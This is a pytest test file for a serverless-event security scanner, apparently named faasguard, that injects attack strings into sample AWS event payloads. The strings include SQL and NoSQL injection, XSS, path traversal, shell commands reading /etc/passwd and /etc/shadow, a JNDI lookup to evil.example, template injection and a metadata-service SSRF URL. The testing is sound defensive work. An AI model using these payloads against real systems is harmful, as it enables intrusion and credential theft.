"""Event sources: recognition, attacker-controlled fields, decoding, limits (real sample events)."""

import base64
import copy
import json
from pathlib import Path
from typing import Any

import pytest

from faasguard.guard import inspect, source_of
from faasguard.guard.events import Limits, collect

FIXTURES = Path(__file__).parent / "fixtures"
SOURCES = ("alb", "apigw_http", "apigw_rest", "cognito", "dynamodb", "eventbridge", "function_url", "kinesis",
           "s3", "sns", "sqs")


def load(source: str) -> dict[str, Any]:
    return copy.deepcopy(json.loads((FIXTURES / f"{source}.json").read_text()))


def hits(event: Any, **kwargs: Any) -> set[tuple[str, str, str]]:
    return {(d.category, d.rule_id, d.field) for d in inspect(event, **kwargs)}


@pytest.mark.parametrize("source", SOURCES)
def test_sample_event_is_recognised_and_clean(source: str) -> None:
    event = load(source)
    assert source_of(event) == source
    assert inspect(event) == []


def test_unknown_shapes() -> None:
    assert source_of({"foo": 1}) == "unknown"
    assert source_of("text") == "unknown"
    assert source_of(None) == "unknown"
    assert hits({"foo": {"bar": "../../etc/passwd"}}) == {("path_traversal", "FG-PATH-001", "$.foo.bar")}


def test_rest_query_parameter() -> None:
    event = load("apigw_rest")
    event["queryStringParameters"]["parameter1"] = "1' or '1'='1"
    assert ("sqli", "FG-SQLI-003", "$.queryStringParameters.parameter1") in hits(event)


def test_http_api_json_body() -> None:
    event = load("apigw_http")
    event["body"] = json.dumps({"message": "hi", "username": "<script>alert(1)</script>"})
    assert hits(event) == {("xss", "FG-XSS-001", "$.body<json>.username")}


def test_base64_form_body() -> None:
    event = load("apigw_rest")
    event["headers"]["Content-Type"] = "application/x-www-form-urlencoded"
    event["body"] = base64.b64encode(b"name=..%2F..%2F..%2Fetc%2Fpasswd&x=1").decode()
    event["isBase64Encoded"] = True
    assert ("path_traversal", "FG-PATH-001", "$.body<base64><form>.name") in hits(event)


def test_alb_header() -> None:
    event = load("alb")
    event["headers"]["user-agent"] = "${jndi:ldap://evil.example/a}"
    assert ("jndi", "FG-JNDI-001", "$.headers.user-agent") in hits(event)


def test_platform_headers_are_not_inspected() -> None:
    event = load("alb")
    event["headers"]["x-amzn-trace-id"] = "<script>alert(1)</script>"
    assert hits(event) == set()


def test_function_url_cookies() -> None:
    event = load("function_url")
    event["cookies"] = ["session=abc", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"]
    assert hits(event) == {("xss", "FG-XSS-001", "$.cookies.q")}


def test_s3_object_key_is_url_decoded() -> None:
    event = load("s3")
    event["Records"][0]["s3"]["object"]["key"] = "uploads/..%2F..%2F..%2Fetc%2Fpasswd"
    assert ("path_traversal", "FG-PATH-001", "$.Records[0].s3.object.key") in hits(event)


def test_sqs_body_with_embedded_sns_message() -> None:
    event = load("sqs")
    envelope = {"Type": "Notification", "Message": json.dumps({"cmd": "; cat /etc/passwd"})}
    event["Records"][1]["body"] = json.dumps(envelope)
    assert ("cmdi", "FG-CMDI-001", "$.Records[1].body<json>.Message<json>.cmd") in hits(event)


def test_sqs_message_attribute() -> None:
    event = load("sqs")
    event["Records"][0]["messageAttributes"]["testAttr"]["stringValue"] = "{{7*7}}"
    assert hits(event) == {("ssti", "FG-SSTI-001", "$.Records[0].messageAttributes.testAttr")}


def test_sns_message() -> None:
    event = load("sns")
    event["Records"][0]["Sns"]["Message"] = "http://169.254.169.254/latest/meta-data/"
    assert hits(event) == {("ssrf", "FG-SSRF-001", "$.Records[0].Sns.Message")}


def test_dynamodb_new_image() -> None:
    event = load("dynamodb")
    event["Records"][0]["dynamodb"]["NewImage"]["Message"]["S"] = "<img src=x onerror=alert(1)>"
    assert hits(event) == {("xss", "FG-XSS-002", "$.Records[0].dynamodb.NewImage.Message.S")}


def test_kinesis_base64_data() -> None:
    event = load("kinesis")
    event["Records"][0]["kinesis"]["data"] = base64.b64encode(b"x; cat /etc/shadow").decode()
    assert ("cmdi", "FG-CMDI-001", "$.Records[0].kinesis.data<base64>") in hits(event)


def test_eventbridge_detail() -> None:
    event = load("eventbridge")
    event["detail"]["state"] = "{{config.__class__}}"
    assert hits(event) == {("ssti", "FG-SSTI-001", "$.detail.state")}


def test_cognito_user_attributes() -> None:
    event = load("cognito")
    event["request"]["userAttributes"]["name"] = "' or 'x'='x"
    assert hits(event) == {("sqli", "FG-SQLI-003", "$.request.userAttributes.name")}


def test_nosql_operator_object_in_body() -> None:
    event = load("apigw_http")
    event["body"] = json.dumps({"username": "admin", "password": {"$ne": None}})
    assert hits(event) == {("nosqli", "FG-NOSQL-004", "$.body<json>.password.$ne")}


def test_depth_limit_is_reported() -> None:
    node: Any = "x"
    for _ in range(40):
        node = {"a": node}
    found = hits({"deep": node})
    assert ("limits", "FG-LIMIT-001", "$.deep" + ".a" * 32) in found


def test_body_size_limit_is_reported() -> None:
    event = load("apigw_http")
    event["body"] = "a" * 2000
    found = hits(event, limits=Limits(max_body_bytes=1000))
    assert found == {("limits", "FG-LIMIT-001", "$.body")}


def test_value_count_limit() -> None:
    _, values, _ = collect({"items": [str(i) for i in range(50)]}, limits=Limits(max_values=10))
    assert [v.kind for v in values].count("limit") == 1
    assert len(values) == 11
